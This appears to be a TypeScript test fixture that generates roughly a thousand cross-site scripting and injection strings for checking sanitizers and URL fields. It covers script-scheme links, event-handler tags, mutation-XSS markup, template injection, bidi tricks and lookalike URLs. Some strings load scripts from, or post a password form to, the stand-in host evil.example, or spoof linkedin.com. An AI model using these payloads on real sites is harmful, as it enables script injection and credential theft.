const run = 'window.ran=1';
const schemes = [
  'javascript',
  'JaVaScRiPt',
  ' javascript',
  'java\tscript',
  'java\nscript',
  'vbscript',
  'data',
  'blob',
  '\u0001javascript',
];
const events = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onbegin',
  'onpointerenter',
  'onscroll',
];
const elements = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'iframe src=x',
  'marquee',
  'object data=x',
  'a href=x',
];
const closings = ['', '">', "'>", '--></', ']]>', '</textarea>', '</title>', '</script>', '`', '&quot;>'];

/** A thousand texts that would run a script, send a form or lead to one, if anything took them for more than text. */
export const hostileTexts: readonly string[] = [
  ...closings.flatMap((closing) =>
    elements.flatMap((element, n) => [
      `${closing}<${element} ${events[n] ?? ''}=${run}>`,
      `${closing}<${element} ${events[(n + 3) % events.length] ?? ''}="${run}" x=`,
      `${closing}<${element}/${(events[(n + 5) % events.length] ?? '').toUpperCase()}=\`${run}\`>`,
    ]),
  ),
  ...closings.flatMap((closing, n) =>
    schemes.flatMap((scheme) => [
      `${scheme}:${run}//${closing}`,
      `//${scheme}:${run}${closing}`,
      `https://x.example/${closing}" onmouseover="${run}" href="${scheme}:${run}//${String(n)}`,
      `${closing}<a href="${scheme}:${run}">${String(n)}</a>`,
      `${closing}<form action="${scheme}:${run}"><button autofocus>${String(n)}</button></form>`,
      `[x](${scheme}:${run}) ![x](${scheme}:${run}) ${closing}`,
    ]),
  ),
  ...closings.flatMap((closing, n) => [
    `${closing}<script>${run}</script>`,
    `${closing}<script src=//evil.example/${String(n)}.js></script>`,
    `${closing}<base href=//evil.example/><a href=/x>${String(n)}</a>`,
    `${closing}<meta http-equiv=refresh content="0;url=javascript:${run}">`,
    `${closing}<style>@import '//evil.example/${String(n)}.css'</style>`,
    `${closing}<form action=//evil.example><input name=password type=password><button>Sign in</button></form>`,
    `${closing}<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
    `${closing}<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
    `${closing}{{constructor.constructor('${run}')()}}\${${run}}#{${run}}`,
    `https://user:${run}@evil.example\\@linkedin.com/in/${String(n)}${closing}`,
    `https://linkedin.com.evil.example/${String(n)}${closing}`,
    `//evil.example\\..\\linkedin.com/${String(n)}${closing}`,
    `\u202ehttps://elpmaxe.live/${String(n)}${closing}`,
    `%3Cscript%3E${run}%3C/script%3E${closing}`,
    `&lt;script&gt;${run}&lt;/script&gt;${closing}${String(n)}`,
    `../../javascript:${run}${closing}${String(n)}`,
    `${closing}<div style="background:url(//evil.example/${String(n)}.png)">`,
    `data:text/html,<script>${run}</script>${closing}`,
    // characters that a parser drops or a line reorders
    `${closing}<scr\u0000ipt>${run}</scr\u0000ipt><img\u0000src=x onerror=${run}>`,
    `\u2067${closing}\u202e<img src=x onerror=${run}>\u2069`,
    // markup that is harmless until it is parsed a second time
    `${closing}<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `${closing}<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
    `${closing}<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
    `${closing}<template><svg><desc><iframe srcdoc="<script>parent.ran=1</script>"></template>`,
  ]),
];

/** Those that a field for an address could take for one. */
export const hostileAddresses: readonly string[] = hostileTexts.filter(
  (text) => /^[^<>]{0,14}:|^\/\/|^https?:/i.test(text) && !text.includes('<'),
);
